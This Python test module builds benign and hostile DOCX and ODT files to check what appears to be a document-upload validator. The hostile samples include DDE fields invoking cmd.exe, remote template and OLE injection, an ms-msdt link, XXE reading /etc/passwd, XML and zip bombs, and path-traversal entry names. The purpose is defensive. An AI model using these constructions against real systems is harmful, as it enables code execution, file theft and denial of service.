"""DOCX and ODT, good and hostile, made here from their parts."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping

from tests.dokumenter import korpus, korpus_ole

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PAKKE = "http://schemas.openxmlformats.org/package/2006"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ODF = "urn:oasis:names:tc:opendocument:xmlns"
ODT = b"application/vnd.oasis.opendocument.text"
Dele = Mapping[str, bytes]


def pak(dele: Dele) -> bytes:
    """A deflated zip as an office program writes it, the first part stored."""
    return raa_zip([(navn.encode(), data, nr > 0) for nr, (navn, data) in enumerate(dele.items())])


# fmt: off
def raa_zip(
    dele: list[tuple[bytes, bytes, bool]],
    flag: int = 0,
    mellem: bytes = b"",
    siger: int = 0,
    hul: bytes = b"",
) -> bytes:
    """A zip by hand. `flag` on every entry, `hul` after the first, `mellem` before the list, `siger` added to sizes."""
    ud, liste = b"", b""
    for navn, data, pakket in dele:
        krop = zlib.compress(data, 9)[2:-4] if pakket else data
        faelles = struct.pack(
            "<HHHHHIIIHH",
            *(20, flag, 8 if pakket else 0, 0, 0x21, zlib.crc32(data), len(krop), len(data) + siger, len(navn), 0),
        )
        liste += b"PK\1\2\x14\0" + faelles + struct.pack("<HHHII", 0, 0, 0, 0, len(ud)) + navn
        ud += b"PK\3\4" + faelles + navn + krop + (b"" if ud else hul)
    ud += mellem
    slut = struct.pack("<HHHHIIH", 0, 0, len(dele), len(dele), len(liste), len(ud), 0)
    return ud + liste + b"PK\5\6" + slut
# fmt: on


def typer(hoveddel: str = DOCX, ekstra: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?><Types xmlns="{PAKKE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{ekstra}'
        f'<Override PartName="/word/document.xml" ContentType="{hoveddel}"/></Types>'
    ).encode()


def relationer(*flere: tuple[str, str, bool]) -> bytes:
    """(kind, target, external) of each."""
    alle = "".join(
        f'<Relationship Id="r{nr}" Type="{R}/{slags}" Target="{maal}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if ude else ''}/>"
        for nr, (slags, maal, ude) in enumerate(flere)
    )
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{PAKKE}/relationships">{alle}</Relationships>'.encode()
    )


def dokument(indhold: str = "<w:p><w:r><w:t>Epikrise</w:t></w:r></w:p>", foran: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{foran}<w:document xmlns:w="{W}" xmlns:r="{R}" '
        f'xmlns:v="urn:schemas-microsoft-com:vml"><w:body>{indhold}</w:body></w:document>'
    ).encode()


def docx_dele(**dele: bytes) -> dict[str, bytes]:
    """The parts of a plain DOCX; the names of `dele`: typer, rels, dokument, dokrels."""
    return {
        "[Content_Types].xml": dele.get("typer", typer()),
        "_rels/.rels": dele.get("rels", relationer(("officeDocument", "word/document.xml", False))),
        "word/document.xml": dele.get("dokument", dokument()),
        "word/_rels/document.xml.rels": dele.get("dokrels", relationer()),
    }


def docx(ekstra: Dele | None = None, **dele: bytes) -> bytes:
    return pak(docx_dele(**dele) | dict(ekstra or {}))


def felt(*ordrer: str) -> bytes:
    """A document with one field whose order is written in these pieces."""
    stykker = "".join(f"<w:r><w:instrText>{ordre}</w:instrText></w:r>" for ordre in ordrer)
    graense = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return dokument(f"<w:p>{graense.format('begin')}{stykker}{graense.format('end')}</w:p>")


def odt_dele(indhold: str = "<text:p>Epikrise</text:p>", **andet: bytes) -> dict[str, bytes]:
    rum = "".join(
        f' xmlns:{kort}="{ODF}:{kort if kort != "draw" else "drawing"}:1.0"'
        for kort in ("office", "text", "draw", "script", "meta")
    )
    krop = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content{rum} '
        f'xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts/><office:body><office:text>{indhold}'
        "</office:text></office:body></office:document-content>"
    )
    manifest = f'<m:manifest xmlns:m="{ODF}:manifest:1.0">{andet.get("manifest", b"").decode()}</m:manifest>'
    return {
        "mimetype": andet.get("mimetype", ODT),
        "content.xml": krop.encode(),
        "META-INF/manifest.xml": manifest.encode(),
    }


def odt(indhold: str = "<text:p>Epikrise</text:p>", ekstra: Dele | None = None, **andet: bytes) -> bytes:
    return pak(odt_dele(indhold, **andet) | dict(ekstra or {}))


def lol() -> str:
    """Entities that grow ten times at each of ten steps."""
    led = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{led}]>'


def overlap() -> bytes:
    """The second entry lies inside the first one's bytes: two readings of the same file."""
    indre = raa_zip([(b"b.xml", b"<a/>", False)])
    indre = indre[: indre.index(b"PK\1\2")]
    data = bytearray(raa_zip([(b"a.xml", indre, False), (b"b.xml", b"<a/>", False)]))
    anden = data.rindex(b"PK\1\2")
    data[anden + 42 : anden + 46] = struct.pack("<I", data.index(b"PK\3\4", 4))
    return bytes(data)


def quine() -> bytes:
    """A zip in a zip in a zip, named as a part of a document."""
    data = docx()
    for _ in range(5):
        data = docx({"word/media/image1.png": data})
    return data


def _tung(navn: str, antal: int) -> Callable[[], bytes]:
    return lambda: docx({navn: bytes(antal)})


EXT = True
FJERN = "http://127.0.0.1/x.dotm"
Fil = tuple[str, "bytes | Callable[[], bytes]", str]

GODE: dict[str, Fil] = {
    "docx": ("Notat.docx", docx(), "docx"),
    "docx uden endelse": ("Notat", docx(), "docx"),
    "docx med billede": ("a.docx", lambda: docx({"word/media/image1.png": korpus.billede("PNG")}), "docx"),
    "docx med link": ("a.docx", docx(dokrels=relationer(("hyperlink", "https://sundhed.dk/", EXT))), "docx"),
    "docx med skabelon fra eget drev": (
        "a.docx",
        docx(dokrels=relationer(("attachedTemplate", "file:///C:\\Skabeloner\\brev.dotx", EXT))),
        "docx",
    ),
    "docx med sidetal og indhold": ("a.docx", docx(dokument=felt(" TOC \\o ", ' "1-3" ')), "docx"),
    "docx i utf-16": (
        "a.docx", docx(dokument=dokument().decode().replace("UTF-8", "UTF-16").encode("utf-16")), "docx"
    ),
    "odt": ("Notat.odt", odt(), "odt"),
    "odt med billede": (
        "a.odt",
        lambda: odt('<draw:image xlink:href="Pictures/a.png"/>', {"Pictures/a.png": korpus.billede("PNG")}),
        "odt",
    ),
    "odt med link": ("a.odt", odt('<text:a xlink:href="https://sundhed.dk/">x</text:a>'), "odt"),
}  # fmt: skip

DAARLIGE: dict[str, Fil] = {
    "docx og odt på én gang": ("a.docx", pak(odt_dele() | docx_dele()), "flere_filer"),
    "docx og pdf på én gang": ("a.docx", pak({"a.bin": korpus.pdf()} | docx_dele()), "flere_filer"),
    "docx kaldt pdf": ("a.pdf", docx(), "forkert_endelse"),
    "docx kaldt odt": ("a.odt", docx(), "forkert_endelse"),
    "odt kaldt docx": ("a.docx", odt(), "forkert_endelse"),
    "docx kaldt docm": ("a.docm", docx(), "forkert_endelse"),
    "docm omdøbt": ("a.docx", docx(typer=typer(DOCM)), "aktivt_indhold"),
    "docx med makro": ("a.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "aktivt_indhold"),
    "makro under andet navn": (
        "a.docx",
        docx(typer=typer(ekstra='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
        "aktivt_indhold",
    ),
    "makro uden navn": ("a.docx", docx({"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1"}), "indlejret_fil"),
    "activex": ("a.docx", docx({"word/activeX/activeX1.xml": b"<a/>"}), "aktivt_indhold"),
    "skabelon fra nettet": (
        "a.docx", docx(dokrels=relationer(("attachedTemplate", FJERN, EXT))), "henter_udefra"
    ),
    "skabelon fra en server": (
        "a.docx", docx(dokrels=relationer(("attachedTemplate", "file://server/del/x.dotm", EXT))), "henter_udefra"
    ),
    "skabelon fra et netværksdrev": (
        "a.docx", docx(dokrels=relationer(("attachedTemplate", "\\\\server\\del\\x.dotm", EXT))), "henter_udefra"
    ),
    "skabelon med fire skråstreger": (
        "a.docx", docx(dokrels=relationer(("attachedTemplate", "file:////server/x.dotm", EXT))), "henter_udefra"
    ),
    "ole fra nettet": ("a.docx", docx(dokrels=relationer(("oleObject", f"mhtml:{FJERN}!x", EXT))), "henter_udefra"),
    "ole fra nettet uden at sige det": (
        "a.docx", docx(dokrels=relationer(("oleObject", FJERN, False))), "indlejret_fil"
    ),
    "billede fra nettet": ("a.docx", docx(dokrels=relationer(("image", FJERN, EXT))), "henter_udefra"),
    "ramme fra nettet": (
        "a.docx", docx({"word/_rels/webSettings.xml.rels": relationer(("frame", FJERN, EXT))}), "henter_udefra"
    ),
    "ole indeni": ("a.docx", docx({"word/embeddings/oleObject1.bin": korpus_ole.ole({"x": b"y"})}), "indlejret_fil"),
    "regneark indeni": ("a.docx", docx({"word/embeddings/a.xlsx": b"PK\3\4"}), "indlejret_fil"),
    "html indeni": ("a.docx", docx({"word/afchunk.htm": b"<html><script>1</script></html>"}), "indlejret_fil"),
    "altchunk": ("a.docx", docx(dokument=dokument('<w:altChunk r:id="r1"/>')), "indlejret_fil"),
    "dde": ("a.docx", docx(dokument=felt('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "aktivt_indhold"),
    "dde i stykker": ("a.docx", docx(dokument=felt(" D", "DE", "AU", "TO cmd")), "aktivt_indhold"),
    "dde i enkelt felt": ("a.docx", docx(dokument=dokument('<w:fldSimple w:instr="dde x"/>')), "aktivt_indhold"),
    "dde stavet med tal": ("a.docx", docx(dokument=felt("QUOTE 68 68 69 65 85 84 79")), "aktivt_indhold"),
    "dde efter et andet felt": (
        "a.docx",
        docx(dokument=felt('</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE ""'
             '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> DDEAUTO cmd')),
        "aktivt_indhold",
    ),
    "dde uden slutning": (
        "a.docx", docx(dokument=dokument("<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>")), "aktivt_indhold"
    ),
    "billedfelt fra nettet": ("a.docx", docx(dokument=felt(f'INCLUDEPICTURE "{FJERN}"')), "henter_udefra"),
    "vml fra nettet": ("a.docx", docx(dokument=dokument(f'<v:imagedata src="{FJERN}"/>')), "henter_udefra"),
    "link der starter et program": (
        "a.docx", docx(dokrels=relationer(("hyperlink", "ms-msdt:/id PCWDiagnostic", EXT))), "aktivt_indhold"
    ),
    "lås på docx": (
        "a.docx", korpus_ole.ole({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"x"}), "krypteret"
    ),
    "låst zip": ("a.docx", raa_zip([(n.encode(), d, True) for n, d in docx_dele().items()], flag=1), "krypteret"),
    "xml-bombe": ("a.docx", docx(dokument=dokument("&l9;", lol())), "bombe"),
    "xml med fil": (
        "a.docx", docx(dokument=dokument("&x;", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')), "bombe"
    ),
    "xml med dtd fra nettet": (
        "a.docx", docx(dokument=dokument(foran='<!DOCTYPE a SYSTEM "http://127.0.0.1/x">')), "henter_udefra"
    ),
    "xml med stil fra nettet": (
        "a.docx", docx(dokument=dokument(foran='<?xml-stylesheet href="http://127.0.0.1/x"?>')), "henter_udefra"
    ),
    "xml i 600 lag": ("a.docx", docx(dokument=dokument("<w:p>" * 600 + "</w:p>" * 600)), "bombe"),
    "xml i stykker": ("a.docx", docx(dokument=b"<w:document"), "beskadiget"),
    "flad zip-bombe": ("a.docx", _tung("word/media/image1.emf", 60_000_000), "bombe"),
    "overlappende zip": ("a.docx", overlap, "bombe"),
    "zip i zip i zip": ("a.docx", quine, "indlejret_fil"),
    "2001 indgange": ("a.docx", lambda: docx({f"customXml/i{n}.xml": b"<a/>" for n in range(2001)}), "bombe"),
    "større end den siger": ("a.docx", raa_zip([(n.encode(), d, True) for n, d in docx_dele().items()], siger=-5), "bombe"),
    "docx skåret over": ("a.docx", docx()[:-30], "afskaaret"),
    "docx med exe efter": ("a.docx", docx() + b"MZ" + bytes(99), "flere_filer"),
    "docx med skjult hale": (
        "a.docx", raa_zip([(n.encode(), d, True) for n, d in docx_dele().items()], mellem=b"<script>"), "flere_filer"
    ),
    "docx med noget imellem": (
        "a.docx", raa_zip([(n.encode(), d, True) for n, d in docx_dele().items()], hul=b"<script>"), "flere_filer"
    ),
    "docx med pdf efter": ("a.docx", docx() + korpus.pdf(), "flere_filer"),
    "navn ud af mappen": ("a.docx", docx({"../../etc/passwd": b"<a/>"}), "beskadiget"),
    "navn fra roden": ("a.docx", docx({"/etc/passwd": b"<a/>"}), "beskadiget"),
    "navn med omvendt skråstreg": ("a.docx", docx({"word\\..\\x": b"<a/>"}), "beskadiget"),
    "navn med nul": ("a.docx", raa_zip([(b"a\0.xml", b"<a/>", True)]), "beskadiget"),
    "samme navn to gange": ("a.docx", docx({"WORD/document.xml": dokument()}), "beskadiget"),
    "navn på 300 byte": ("a.docx", docx({"word/" + "a" * 300: b"<a/>"}), "beskadiget"),
    "billede i docx for stort": ("a.docx", lambda: docx({"word/media/a.png": korpus.png_flodboelge()}), "for_mange_pixels"),
    "regneark": ("a.xlsx", docx(typer=typer(XLSX)), "andet_kontor"),
    "skabelon": ("a.dotx", docx(typer=typer(DOCX.replace("document.main", "template.main"))), "andet_kontor"),
    "zip": ("a.zip", korpus.zip_(**{"a.txt": b"x"}), "arkiv"),
    "zip med pdf i": ("a.pdf", korpus.zip_(**{"a.pdf": korpus.pdf()}), "arkiv"),
    "gammel word": ("a.doc", korpus_ole.ole({"WordDocument": bytes(5000)}), "andet_kontor"),
    "ole uden indhold": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "beskadiget"),
    "odt med makro": ("a.odt", odt(ekstra={"Basic/Standard/Module1.xml": b"<a/>"}), "aktivt_indhold"),
    "odt med python": ("a.odt", odt(ekstra={"Scripts/python/x.py": b"import os"}), "aktivt_indhold"),
    "odt med hændelse": (
        "a.odt", odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), "aktivt_indhold"
    ),
    "odt med dde": ("a.odt", odt('<office:dde-source office:dde-application="soffice"/>'), "aktivt_indhold"),
    "odt med objekt": ("a.odt", odt('<draw:object xlink:href="./Object 1"/>'), "indlejret_fil"),
    "odt med afsnit fra en fil": ("a.odt", odt('<text:section-source xlink:href="file:///etc/passwd"/>'), "henter_udefra"),
    "odt med billede fra nettet": ("a.odt", odt('<draw:image xlink:href="http://127.0.0.1/x.png"/>'), "henter_udefra"),
    "odt med billede uden for mappen": ("a.odt", odt('<draw:image xlink:href="../../x.png"/>'), "henter_udefra"),
    "odt med link til script": ("a.odt", odt('<text:a xlink:href="java&#9;script:x"/>'), "aktivt_indhold"),
    "odt med link til kommando": ("a.odt", odt('<text:a xlink:href=".uno:Quit"/>'), "aktivt_indhold"),
    "odt låst": ("a.odt", odt(manifest=b"<m:encryption-data/>"), "krypteret"),
    "ods kaldt odt": ("a.odt", odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), "andet_kontor"),
}  # fmt: skip
